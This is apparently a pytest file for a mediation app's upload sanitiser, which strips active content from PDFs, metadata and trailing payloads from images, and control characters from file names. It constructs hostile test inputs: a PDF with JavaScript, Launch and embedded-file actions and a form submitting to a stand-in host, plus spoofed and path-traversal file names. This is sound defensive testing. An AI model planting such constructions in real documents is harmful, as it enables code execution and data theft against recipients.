"""Uploads are cleaned before they are kept (records/sanitise.py): a PDF loses its JavaScript,
actions, embedded files and forms, and keeps its pages; an image is encoded again without
its metadata or anything appended; a file name loses control characters. The cleaned copy
is what is stored, downloaded and bound into the case file (卷宗); an unreadable PDF is
refused next to the file field."""

import hashlib
import io
import subprocess

import pikepdf
import pytest
from PIL import Image
from werkzeug.datastructures import FileStorage

from mediation.documents import service as documents
from mediation.extensions import db
from mediation.models import Attachment, AttachmentKind, DocumentKind
from mediation.records.attachments import read_file, store_attachment
from mediation.records.sanitise import clean_filename, clean_image, clean_pdf
from mediation.storage import storage
from mediation.workflow import WorkflowError

from test_documents import working_case

# What must not survive anywhere in a stored PDF.
ACTIVE = {
    "/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/EmbeddedFiles", "/AcroForm",
    "/XFA", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/URI", "/RichMedia",
}  # fmt: skip
BROKEN = "无法读取该 PDF 文件，文件可能已损坏。请重新扫描或导出后再上传。"


def hostile_pdf() -> bytes:
    """A one-page 'signed scan' with everything a PDF can run or carry: a JavaScript link, a
    Launch link, a URI link, an OpenAction, page and field triggers, document JavaScript, an
    embedded file, a form with XFA and a rich-media annotation."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = pikepdf.Dictionary(
        Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
    )
    page.obj["/Resources"] = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    page.obj["/Contents"] = pdf.make_stream(b"BT /F1 24 Tf 72 720 Td (Signed by both) Tj ET")

    def action(kind: str, **fields):
        return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name(kind), **fields))

    def annotation(subtype: str, **fields):
        return pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name(subtype),
                Rect=[72, 600, 300, 640],
                **fields,
            )
        )

    script = action("/JavaScript", JS=pikepdf.String("app.alert('pwned')"))
    embedded = pdf.make_stream(b"MZ payload")
    spec = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String("run.exe"), EF=pikepdf.Dictionary(F=embedded)
    )
    field = annotation(
        "/Widget",
        FT=pikepdf.Name.Tx,
        T=pikepdf.String("name"),
        AA=pikepdf.Dictionary(K=action("/JavaScript", JS=pikepdf.String("1"))),
        A=action("/SubmitForm", F=pikepdf.String("http://evil.example/")),
    )
    page.obj["/Annots"] = pikepdf.Array(
        [
            annotation("/Link", A=script),
            annotation("/Link", A=action("/Launch", F=pikepdf.String("calc.exe"))),
            annotation("/Link", A=action("/URI", URI=pikepdf.String("http://evil.example/"))),
            annotation("/Link", A=action("/GoToR", F=pikepdf.String("other.pdf"), D=[0])),
            annotation("/Link", A=action("/GoToE", T=pikepdf.Dictionary(R=pikepdf.Name.C))),
            annotation("/Link", A=action("/ImportData", F=pikepdf.String("data.fdf"))),
            annotation("/RichMedia"),
            annotation("/FileAttachment", FS=spec),
            field,
        ]
    )
    page.obj["/AA"] = pikepdf.Dictionary(O=action("/JavaScript", JS=pikepdf.String("2")))
    root = pdf.Root
    root["/OpenAction"] = action("/JavaScript", JS=pikepdf.String("app.alert(1)"), Next=script)
    root["/AA"] = pikepdf.Dictionary(WC=action("/JavaScript", JS=pikepdf.String("3")))
    root["/Names"] = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), script]),
        EmbeddedFiles=pikepdf.Dictionary(Names=[pikepdf.String("run.exe"), spec]),
    )
    root["/AcroForm"] = pikepdf.Dictionary(Fields=[field], XFA=pdf.make_stream(b"<xdp/>"))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def names_in(data: bytes) -> set[str]:
    """Every dictionary key and name value in the PDF, read back with pikepdf."""
    found = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in pdf.objects:
            todo = [obj]
            while todo:
                item = todo.pop()
                if isinstance(item, pikepdf.Name):
                    found.add(str(item))
                elif isinstance(item, pikepdf.Dictionary | pikepdf.Stream):
                    for key, value in item.items():
                        found.add(key)
                        if not getattr(value, "is_indirect", False):
                            todo.append(value)
                elif isinstance(item, pikepdf.Array):
                    todo.extend(v for v in item if not getattr(v, "is_indirect", False))
    return found


def text_of(data: bytes) -> str:
    done = subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True)
    return done.stdout.decode()


def test_the_hostile_pdf_is_hostile():
    """The test file really carries what the cleaning must remove (so the tests below would
    fail on code that stored it as it came)."""
    assert names_in(hostile_pdf()) >= ACTIVE


def test_javascript_in_a_signed_scan_reaches_neither_the_store_nor_the_case_file(world, login):
    case = working_case(world)
    c = login("mediator1")
    hostile = hostile_pdf()  # pikepdf gives each new file its own /ID: made once
    upload = {"checked": "y", "file": (io.BytesIO(hostile), "协议签字.pdf")}
    response = c.post(
        f"/cases/{case.id}/agreements/{case.agreement.id}/signed",
        data=upload,
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    scan = db.session.scalars(db.select(Attachment)).one()
    stored = read_file(scan)
    assert names_in(stored) & ACTIVE == set()
    assert "Signed by both" in text_of(stored)  # the page itself is kept
    assert scan.original_sha256 == hashlib.sha256(hostile).hexdigest()
    assert scan.sha256 == hashlib.sha256(stored).hexdigest() != scan.original_sha256
    downloaded = c.get(f"/cases/{case.id}/attachments/{scan.id}").data
    assert downloaded == stored

    case_file = documents.generate_document(case, world["auditor1"], DocumentKind.CASE_FILE)
    bound = documents.read_document(case_file)
    assert names_in(bound) & ACTIVE == set()
    assert "Signedbyboth" in text_of(bound).replace(" ", "")


def test_a_scan_stored_before_cleaning_is_bound_without_its_links(world):
    """Files kept before uploads were cleaned: the 卷宗 binds their pages' drawing only."""
    case = working_case(world)
    scan = store_attachment(
        case,
        world["mediator1"],
        FileStorage(io.BytesIO(hostile_pdf()), filename="旧扫描件.pdf"),
        AttachmentKind.SCAN,
    )
    storage().path(scan.sha256).write_bytes(hostile_pdf())  # as an old upload was kept
    case_file = documents.generate_document(case, world["auditor1"], DocumentKind.CASE_FILE)
    assert {"/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch"} & names_in(
        documents.read_document(case_file)
    ) == set()


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("协议\x00.pdf", "协议.pdf"),
        ("a\x07b\x1b[31mc\x85d.pdf", "ab[31mcd.pdf"),
        ("发票\u202efdp.exe", "发票fdp.exe.pdf"),  # a right-to-left override hides .exe
        ("..\\..\\etc/passwd", "passwd.pdf"),
        ("\x00\x01", "附件.pdf"),
        ("...", "附件.pdf"),
        ("扫描" * 200 + ".PDF", "扫描" * 58 + ".PDF"),
    ],
)
def test_a_file_name_is_cleaned_of_control_characters(name, expected):
    cleaned = clean_filename(name, "application/pdf")
    assert cleaned == expected and len(cleaned) <= 120


def test_a_nul_in_an_uploaded_file_name_is_neither_stored_nor_sent_back(world, login):
    case = working_case(world)
    record = case.session_records[0]
    c = login("mediator1")
    response = c.post(
        f"/cases/{case.id}/sessions/{record.id}/attachments",
        data={"file": (io.BytesIO(png_with_payload()), "现场\x00照片\u202e.png"), "kind": "photo"},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    attachment = db.session.scalars(db.select(Attachment)).one()
    assert attachment.original_name == "现场照片.png"
    download = c.get(f"/cases/{case.id}/attachments/{attachment.id}")
    disposition = download.headers["Content-Disposition"]
    assert "\x00" not in disposition and "%00" not in disposition


def png_with_payload() -> bytes:
    out = io.BytesIO()
    info = __import__("PIL.PngImagePlugin", fromlist=["PngInfo"]).PngInfo()
    info.add_text("Comment", "secret location")
    Image.new("RGB", (8, 6), (166, 27, 27)).save(out, "PNG", pnginfo=info)
    return out.getvalue() + b"<script>alert(1)</script>"


def jpeg_with_exif() -> bytes:
    image = Image.new("RGB", (8, 6), (31, 95, 191))
    exif = Image.Exif()
    exif[0x010F] = "CameraMaker"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° to show upright
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue() + b"PK\x03\x04 zip payload"


def test_images_are_encoded_again_without_metadata_or_trailing_payload():
    png = clean_image(png_with_payload(), "image/png")
    assert b"<script>" not in png and b"secret location" not in png
    assert png.endswith(b"IEND\xaeB`\x82")
    jpeg = clean_image(jpeg_with_exif(), "image/jpeg")
    assert b"PK\x03\x04" not in jpeg and b"CameraMaker" not in jpeg and b"Exif" not in jpeg
    with Image.open(io.BytesIO(jpeg)) as shown:
        assert shown.size == (6, 8)  # turned upright as the EXIF asked, before it was left


@pytest.mark.parametrize(
    "data",
    [b"%PDF-1.4\nthis is not a pdf at all", b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"],
)
def test_a_malformed_pdf_is_refused_with_a_chinese_message(data):
    with pytest.raises(WorkflowError) as refused:
        clean_pdf(data)
    assert refused.value.status == 400 and refused.value.field == "file"
    assert refused.value.message in (BROKEN, "该 PDF 文件没有页面，请重新扫描后再上传。")


def test_a_broken_image_is_refused_with_a_chinese_message():
    with pytest.raises(WorkflowError) as refused:
        clean_image(b"\x89PNG\r\n\x1a\n broken", "image/png")
    assert refused.value.status == 400 and "无法读取该图片文件" in refused.value.message


def test_a_malformed_pdf_is_refused_next_to_the_file_field_wherever_it_is_uploaded(world, login):
    case = working_case(world)
    c = login("mediator1")
    printed = documents.generate_document(
        case, world["mediator1"], DocumentKind.AGREEMENT, case.agreement.id
    )
    broken = b"%PDF-1.4\nnot really"
    record = case.session_records[0]
    posts = [
        (f"/cases/{case.id}/sessions/{record.id}/attachments", {"kind": "evidence"}, "file"),
        (f"/cases/{case.id}/agreements/{case.agreement.id}/signed", {"checked": "y"}, "file"),
        (f"/cases/{case.id}/documents/{printed.id}/signed", {}, "file"),
    ]
    for url, fields, name in posts:
        data = {**fields, name: (io.BytesIO(broken), "扫描.pdf")}
        response = c.post(url, data=data, content_type="multipart/form-data")
        assert response.status_code == 400, url
        assert BROKEN in response.get_data(as_text=True), url
    # On the upload page the refusal sits under the file field itself.
    response = c.post(
        posts[0][0],
        data={"kind": "evidence", "file": (io.BytesIO(broken), "扫描.pdf")},
        content_type="multipart/form-data",
    )
    assert f'<p class="error" id="file-error">{BROKEN}</p>' in response.get_data(as_text=True)
    assert db.session.scalars(db.select(Attachment)).all() == []


def test_the_verify_page_reads_an_upload_and_keeps_nothing(world, client):
    case = working_case(world)
    printed = documents.generate_document(
        case, world["mediator1"], DocumentKind.AGREEMENT, case.agreement.id
    )
    before = sorted(storage().keys())
    data = {"file": (io.BytesIO(hostile_pdf()), "协议.pdf"), "csrf_token": client.csrf_token()}
    response = client.post(f"/verify/{printed.code}", data=data, content_type="multipart/form-data")
    assert response.status_code == 200 and "不相符" in response.get_data(as_text=True)
    assert sorted(storage().keys()) == before
